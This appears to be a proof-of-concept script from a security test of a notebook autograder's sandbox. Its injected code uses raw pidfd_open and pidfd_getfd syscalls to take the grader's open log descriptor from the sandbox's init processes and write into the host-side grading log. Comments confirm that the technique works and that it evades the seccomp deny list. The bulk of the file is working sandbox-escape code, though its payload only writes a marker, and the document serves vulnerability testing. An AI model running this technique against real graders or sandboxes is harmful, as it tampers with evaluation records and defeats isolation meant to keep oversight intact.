"""a05: a second way to a02's log, one that does not depend on the log's file permissions: pidfd_getfd.
The seccomp filter refuses ptrace and process_vm_*, but not pidfd_open (434) / pidfd_getfd (438), and the
host has no Yama: the kernel duplicates fd 2 of the sandbox's placeholder (pid 2; and of bwrap's init, pid 1)
into itself: the grader's open file description of nbgrader.log, with the grader's own open flags (O_WRONLY).
As an ordinary user this is the same file a02 reopens; as root the log is root's (mode 0600) and a reopen
through /proc is refused, but a duplicated descriptor keeps the write access the grader opened it with
(not run as root here: inferred).  A watcher on the host looks for the marker in the grader's log."""
from u7 import *
GETFD = r'''
import ctypes, os, fcntl
libc = ctypes.CDLL(None, use_errno=True)
for pid in (2, 1):
    pfd = libc.syscall(434, pid, 0)
    if pfd < 0:
        print('pidfd_open', pid, os.strerror(ctypes.get_errno())); continue
    fd = libc.syscall(438, pfd, 2, 0)
    if fd < 0:
        print('pidfd_getfd', pid, os.strerror(ctypes.get_errno())); continue
    flags = fcntl.fcntl(fd, fcntl.F_GETFL)
    print(f'pid {pid}: got fd {fd} -> {os.readlink(f"/proc/self/fd/{fd}")} flags {oct(flags)} (O_WRONLY={bool(flags & os.O_WRONLY)})')
    os.lseek(fd, 0, os.SEEK_END)
    os.write(fd, f'\nR7U-MARKER-via-pidfd_getfd-from-pid-{pid}\n'.encode())
q1 = 'a'
'''
nb = notebook(overrides={"quiz_q1": GETFD})
import threading, glob, time
found = set()
def watch():
    while not found.__contains__('stop'):
        for f in glob.glob('/tmp/grade-kernel-*/nbgrader.log'):
            try:
                data = open(f, 'rb').read()
                for pid in (1, 2):
                    if f'R7U-MARKER-via-pidfd_getfd-from-pid-{pid}'.encode() in data:
                        found.add((f, pid))
            except OSError:
                pass
        time.sleep(0.3)
t = threading.Thread(target=watch, daemon=True); t.start()
final, p = ugrade("a05", {"getfd": nb})
found.add('stop')
print('markers seen in the host log:', sorted(x for x in found if x != 'stop'))
outputs(final, "getfd")
# RESULT (BROKEN, ordinary user): pidfd_open(2)/pidfd_getfd(…, 2) and the same on pid 1 succeed in the kernel:
# fd -> /tmp/grade-kernel-*/nbgrader.log, flags O_WRONLY (the grader's own open); both markers were found in the
# host log by the watcher.  Not in the seccomp deny list (ptrace and process_vm_* are).  As root (untested here):
# the log is root's 0600, so a02's reopen would be refused, but the duplicated description keeps its write access.
